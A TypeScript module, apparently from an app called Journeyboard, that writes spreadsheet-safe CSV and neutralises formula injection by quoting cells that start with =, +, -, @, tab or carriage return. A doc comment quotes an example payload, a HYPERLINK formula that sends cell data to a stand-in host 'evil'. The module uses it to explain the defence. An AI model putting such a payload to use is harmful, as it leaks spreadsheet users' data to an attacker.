import Papa from 'papaparse';

/**
 * CSV that spreadsheets open cleanly: a UTF-8 byte-order mark (or Excel guesses the
 * encoding wrong), every field quoted, CRLF line ends — and no cell a spreadsheet would
 * run as a formula (see neutralise).
 */
export function toCsv(header: readonly string[], rows: readonly (string | number)[][]): string {
  const cells = rows.map((r) => r.map((cell) => (typeof cell === 'number' ? String(cell) : neutralise(cell))));
  return `\uFEFF${Papa.unparse({ fields: header.map(neutralise), data: cells }, { quotes: true, newline: '\r\n' })}\r\n`;
}

/**
 * Excel, LibreOffice and Google Sheets read a cell starting with = + - @ (and, after a
 * tab or carriage return, those too) as a formula, even inside quotes: a card typed as
 * `=HYPERLINK("http://evil/?"&A1)` would run on the consultant's machine. OWASP's advice
 * is to prefix such a cell with a single quote, which every spreadsheet shows as text.
 * Leading quotes count too (`'=x` becomes `''=x`), so the import can take exactly one
 * quote off and give back the text as typed — while a card that merely starts with an
 * apostrophe ("'Twas slow") is written unchanged. Numbers we write ourselves (counts,
 * costs) are never negative and are left alone, so they stay numbers in the sheet.
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;

export function neutralise(cell: string): string {
  return FORMULA_START.test(cell) ? `'${cell}` : cell;
}

/** The inverse of neutralise, for files Journeyboard wrote (see OWN_CSV_MARKER). */
export function restoreNeutralised(cell: string): string {
  return cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell;
}

/**
 * The column that says a CSV is Journeyboard's own: it holds each card's id. Only such a
 * file had its formula-like cells quoted by us, so only there is a leading quote ours to
 * take off; in a file someone made by hand a leading apostrophe is theirs and stays.
 */
export const OWN_CSV_MARKER = 'journeyboard id';
